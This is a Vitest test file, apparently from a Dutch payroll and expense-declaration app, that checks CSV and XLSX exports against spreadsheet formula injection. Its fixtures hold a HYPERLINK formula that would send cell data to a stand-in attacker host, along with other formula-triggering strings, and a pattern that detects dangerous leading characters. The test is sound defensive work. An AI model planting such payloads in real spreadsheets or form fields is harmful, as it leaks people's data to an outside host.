import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { declarationTypes } from '../../src/db/schema.js';
import { createDeclarationMonth, createDeclarationRow, createUser } from '../factories/index.js';
import { signIn, type Session } from '../helpers/session.js';
import { useTestApp } from '../helpers/test-app.js';
import { FIXED_NOW } from './declarations-helpers.js';
import * as payroll from './payroll-helpers.js';

/**
 * Issue 24 point 6: no cell of the payroll files, headers included, is run as a formula when
 * the file is opened. Declaration-type titles and names are typed by people; a cell that starts
 * with one of these six gets a leading apostrophe, in the CSV and the XLSX alike, and the XLSX
 * holds them as strings, never as formulas.
 */
const ctx = useTestApp({ now: () => FIXED_NOW });
const STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;
const TITLES = [
  '=HYPERLINK("https://aanval.example/?d="&A2,"Klik")',
  '+31 Reiskosten',
  '-2+3 Korting',
  '@SUM(1,1) Lunch',
  '\tTab-type',
  '\rRegel-type',
];
const DANGEROUS = /^[=+\-@\t\r]/;

let admin: Session;
const names: string[] = [];
let exportId: number;

/** RFC 4180 with semicolons: quoted fields may hold ; " CR and LF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ';') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

beforeAll(async () => {
  admin = await signIn(ctx.app, 'admin');
  const db = ctx.database.db;
  for (const title of TITLES) await db.insert(declarationTypes).values({ title });
  for (const [index, start] of STARTS.entries()) {
    const user = await createUser(db, { voornaam: `${start}Naam${index}`, achternaam: 'Test' });
    names.push(`${start}Naam${index} Test`);
    await createDeclarationMonth(db, {
      userId: user.id,
      year: 2026,
      month: 10,
      status: 'approved',
    });
    await createDeclarationRow(db, { userId: user.id, date: '2026-10-10', type: TITLES[index] });
  }
  const created = await payroll.createExport(ctx.app, admin, { from: '2026-10', to: '2026-10' });
  expect(created.statusCode).toBe(201);
  exportId = created.json().export.id;
});

describe('the payroll CSV', () => {
  it('starts every header and cell that begins with = + - @ tab or CR with an apostrophe', async () => {
    const response = await payroll.readyFile(ctx.app, admin, exportId, 'csv');
    expect(response.statusCode).toBe(200);
    const [header, ...lines] = parseCsv(
      response.rawPayload.toString('utf8').replace(/^\uFEFF/, ''),
    );
    for (const title of TITLES) expect(header).toContain(`'${title}`);
    const cells = lines.flat();
    for (const name of names) expect(cells).toContain(`'${name}`);
    expect(lines).toHaveLength(STARTS.length);
    expect([...header!, ...cells].filter((cell) => DANGEROUS.test(cell))).toEqual([]);
  });
});

describe('the payroll XLSX', () => {
  it('holds every header and cell as a string or number, and those six starts behind an apostrophe', async () => {
    const response = await payroll.readyFile(ctx.app, admin, exportId, 'xlsx');
    expect(response.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const types = new Set(cells.map((cell) => cell.type));
    expect([...types].sort()).toEqual([ExcelJS.ValueType.Number, ExcelJS.ValueType.String].sort());
    const texts = cells.flatMap((cell) => (typeof cell.value === 'string' ? [cell.value] : []));
    // XML reads a carriage return in text as a line feed.
    const asRead = (text: string) => text.replaceAll('\r', '\n');
    for (const text of [...TITLES, ...names]) expect(texts).toContain(asRead(`'${text}`));
    expect(texts.filter((text) => /^[=+\-@\t\r\n]/.test(text))).toEqual([]);
  });
});
